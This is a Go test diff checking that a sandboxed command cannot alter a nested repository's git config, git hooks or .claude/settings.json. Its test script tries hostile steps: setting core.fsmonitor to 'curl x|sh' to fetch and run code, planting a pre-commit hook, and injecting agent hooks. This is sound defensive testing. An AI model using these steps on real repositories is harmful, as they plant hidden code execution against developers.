@@ -582,3 +582,29 @@ func TestCommandReachesOnlyTheConfiguredLoopbackRegistryDirectly(t *testing.T) {
 		t.Fatalf("relayed connections audited: %d, want 1", relayed)
 	}
 }
+
+// A project nested in the workspace (a repository in a subdirectory, its
+// own .claude/) keeps its host-trusted files read-only too.
+func TestCommandCannotChangeNestedProjectsTrustedFiles(t *testing.T) {
+	h := newHands(t)
+	sub := filepath.Join(h.ws, "vendor-src", "lib")
+	if out, err := exec.Command("git", "init", "-q", sub).CombinedOutput(); err != nil {
+		t.Fatalf("git init: %v: %s", err, out)
+	}
+	cfg := mustRead(t, filepath.Join(sub, ".git", "config"))
+	writeFile(t, filepath.Join(sub, ".claude", "settings.json"), "{}\n")
+	h.start(t)
+	script := fmt.Sprintf(`cd %s && git config core.fsmonitor 'curl x|sh'; echo x > .git/hooks/pre-commit; echo '{"hooks":1}' > .claude/settings.json; true`, sub)
+	if _, err := h.run(t, "make", script); err != nil {
+		t.Fatal(err)
+	}
+	if got := mustRead(t, filepath.Join(sub, ".git", "config")); got != cfg {
+		t.Errorf("the nested repository's config changed: %q", got)
+	}
+	if _, err := os.Stat(filepath.Join(sub, ".git", "hooks", "pre-commit")); err == nil {
+		t.Error("a hook was planted in the nested repository")
+	}
+	if got := mustRead(t, filepath.Join(sub, ".claude", "settings.json")); got != "{}\n" {
+		t.Errorf("the nested .claude/settings.json changed: %q", got)
+	}
+}
